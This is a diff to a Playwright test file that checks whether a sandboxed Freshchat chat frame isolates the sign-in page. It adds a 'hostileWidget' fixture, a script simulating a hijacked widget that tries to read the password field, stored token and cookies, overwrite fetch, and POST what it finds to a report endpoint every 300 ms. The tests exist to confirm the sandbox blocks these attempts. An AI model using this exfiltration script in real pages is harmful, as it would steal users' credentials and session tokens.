@@ -5,6 +5,7 @@ import type { AddressInfo } from 'node:net'
 import type { Page } from '@playwright/test'
 import { expectAccessible } from './environment/accessibility.ts'
 import { expect, test } from './environment/journey.ts'
+import type { JourneyServer } from './environment/server.ts'
 import { SettingsPage } from './pages/SettingsPage.ts'
 import { SignInPage } from './pages/SignInPage.ts'
 
@@ -12,7 +13,7 @@ import { SignInPage } from './pages/SignInPage.ts'
 const patience = { timeout: 20_000 }
 
 /** Freshchat and Google Analytics: the widget is a button that can be opened and closed. */
-async function startOutside() {
+async function startOutside(script = widget) {
   const requests: { readonly path: string; readonly at: number; readonly body: string }[] = []
   const server = createServer((request, response) => {
     let body = ''
@@ -24,7 +25,7 @@ async function startOutside() {
         'content-type': 'text/javascript',
         'cross-origin-resource-policy': 'cross-origin',
       })
-      response.end(widget)
+      response.end(script)
     })
   })
   server.listen(0, '127.0.0.1')
@@ -55,6 +56,33 @@ globalThis.fcWidget = {
   },
 }`
 
+/** A script of Freshchat that was taken over: it tells what it can read and change, again and again. */
+const hostileWidget = `
+const { origin } = new URL(document.currentScript.src)
+const attempts = {
+  'the password': () => parent.document.querySelector('input[name=password]').value,
+  'the address of the page': () => parent.location.href,
+  'the calls of the page': () => { parent.fetch = () => {}; return 'replaced' },
+  'the storage of the page': () => parent.localStorage.getItem('lustra.token'),
+  'its own storage': () => localStorage.getItem('lustra.token'),
+  'its cookies': () => document.cookie,
+}
+const report = (found) =>
+  fetch(origin + '/report', { method: 'POST', mode: 'no-cors', body: JSON.stringify(found) })
+setInterval(() => {
+  for (const [what, attempt] of Object.entries(attempts)) {
+    try { report({ what, read: String(attempt()) }) } catch { report({ what, read: null }) }
+  }
+  fetch(location.origin + '/web/api/v1/version', { method: 'POST', body: '{}' })
+    .then((reply) => reply.text())
+    .then((read) => report({ what: 'a call of its own', read }), () => report({ what: 'a call of its own', read: null }))
+}, 300)
+globalThis.fcWidget = { on() {}, init() {} }`
+
+/** It cannot run without a storage, which a frame without an origin has not. */
+const storingWidget = `
+globalThis.fcWidget = { on() {}, init() { localStorage.setItem('visitor', '1') } }`
+
 /** The page of the chat, in a frame that the application did not make. */
 async function frameChat(page: Page): Promise<void> {
   await page.evaluate(
@@ -66,6 +94,27 @@ async function frameChat(page: Page): Promise<void> {
         document.body.append(frame)
       }),
   )
+}
+
+/** Opens the sign-in page of somebody who has allowed the chat, which has begun. */
+async function switchOnChat(page: Page, server: JourneyServer, address: string): Promise<void> {
+  await server.setSetting('freshchat_url', address)
+  await server.setSetting('freshchat_token', 'a-token')
+  await server.setSetting('freshchat_enabled', 'true')
+  await page.addInitScript(() => {
+    // A frame without an origin has no storage.
+    if (window === top) localStorage.setItem('lustra.consent', 'chat=yes')
+  })
+  // A page that was sent before the server noticed the setting admits no frame.
+  await expect(async () => {
+    const { 'content-security-policy': policy } = (await page.request.get('/web/login')).headers()
+    expect(policy).toContain('frame-src')
+  }).toPass(patience)
+  await expect(async () => {
+    const script = page.waitForResponse(`${address}/js/widget.js`, { timeout: 4000 })
+    await page.goto('/web/login')
+    await script
+  }).toPass(patience)
 }
 
 const overflowOf = (page: Page) => page.evaluate(() => document.documentElement.scrollWidth - innerWidth)
@@ -152,6 +201,13 @@ for (const [language, theme] of [
           expect(freshchat.requests).toHaveLength(1)
           expect(freshchat.requests[0]!.at - openedAt).toBeGreaterThanOrEqual(1500)
         }
+        const link = page.getByRole('link', { name: texts.chatWindow })
+        await expect(link).toHaveAttribute('target', '_blank')
+        await expect(link).toHaveAttribute('rel', /noopener/)
+        const { status, location } = await page.request
+          .get((await link.getAttribute('href'))!, { maxRedirects: 0 })
+          .then((reply) => ({ status: reply.status(), location: reply.headers()['location']! }))
+        expect([status, new URL(location).origin]).toEqual([302, freshchat.address])
         const closed = (await page.locator('iframe').boundingBox())!
         expect(closed.width).toBeLessThan(100)
         await frame.getByRole('button').click()
@@ -171,29 +227,77 @@ for (const [language, theme] of [
         await server.setSetting('freshchat_enabled', 'false')
       })
 
-      test('the chat ends when somebody signs in (INT-N17)', async ({ page, words, server, person }) => {
+      test('the chat ends when somebody signs in, who gets a new page (INT-N17)', async ({
+        page,
+        words,
+        server,
+        person,
+      }) => {
         await using freshchat = await startOutside()
-        await server.setSetting('freshchat_url', freshchat.address)
-        await server.setSetting('freshchat_token', 'a-token')
-        await server.setSetting('freshchat_enabled', 'true')
-        await page.addInitScript(() => localStorage.setItem('lustra.consent', 'chat=yes'))
-        // A page that was sent before the server noticed the setting admits no frame.
-        await expect(async () => {
-          const { 'content-security-policy': policy } = (await page.request.get('/web/login')).headers()
-          expect(policy).toContain('frame-src')
-        }).toPass(patience)
-        await expect(async () => {
-          await page.goto('/web/login')
-          await expect(page.locator('iframe')).toHaveCount(1, { timeout: 4000 })
-        }).toPass(patience)
+        await switchOnChat(page, server, freshchat.address)
+        await page.evaluate(() => Object.assign(window, { isFormerPage: true }))
         await new SignInPage(page, words).logIn(person.email, person.password)
         await expect(page).toHaveURL(/dashboard/)
         await expect(page.locator('iframe')).toHaveCount(0)
         expect(page.frames()).toHaveLength(1)
+        expect(await page.evaluate(() => 'isFormerPage' in window)).toBe(false)
         freshchat.requests.length = 0
         await frameChat(page)
         await page.waitForTimeout(500)
         expect(freshchat.requests, 'with a session').toEqual([])
+        await server.setSetting('freshchat_enabled', 'false')
+      })
+    })
+
+    test.describe(() => {
+      // What the browser keeps from the scripts of the chat.
+      test.use({
+        signedIn: false,
+        expectedErrors: [/\/web\/chat|sandbox|Content Security Policy|localStorage|\/web\/api/],
+      })
+
+      test('a hostile widget reads nothing of the page, replaces no call, and has no token after the sign-in (INT-N17)', async ({
+        page,
+        words,
+        server,
+        person,
+      }) => {
+        await using freshchat = await startOutside(hostileWidget)
+        await switchOnChat(page, server, freshchat.address)
+        const reports = () =>
+          freshchat.requests
+            .filter(({ path }) => path === '/report')
+            .map(({ body }) => JSON.parse(body) as { what: string; read: string | null })
+        await page.getByLabel(words.account.password, { exact: true }).fill(person.password)
+        await expect
+          .poll(() => reports().filter(({ what }) => what === 'the password').length)
+          .toBeGreaterThan(2)
+        await expect.poll(() => reports().some(({ what }) => what === 'a call of its own')).toBe(true)
+        expect(await page.evaluate(() => String(fetch))).toContain('[native code]')
+        await new SignInPage(page, words).logIn(person.email, person.password)
+        await expect(page).toHaveURL(/dashboard/)
+        expect(page.frames()).toHaveLength(1)
+        freshchat.requests.push({ path: 'signed in', at: Date.now(), body: '' })
+        await page.waitForTimeout(1500)
+        expect(reports().filter(({ read }) => read !== null)).toEqual([])
+        const after = freshchat.requests.findIndex(({ path }) => path === 'signed in')
+        // What was on its way when the page ended.
+        const late = freshchat.requests
+          .slice(after)
+          .filter(({ at }) => at - freshchat.requests[after]!.at > 500)
+        expect(late).toEqual([])
+        await server.setSetting('freshchat_enabled', 'false')
+      })
+
+      test('a widget that cannot run without a storage leaves the link to a window of its own (ACC-002, INT-050)', async ({
+        page,
+        words,
+        server,
+      }) => {
+        await using freshchat = await startOutside(storingWidget)
+        await switchOnChat(page, server, freshchat.address)
+        await expect(page.locator('iframe')).toHaveCount(0)
+        await expect(page.getByRole('link', { name: words.consent.chatWindow })).toBeVisible()
         await server.setSetting('freshchat_enabled', 'false')
       })
     })
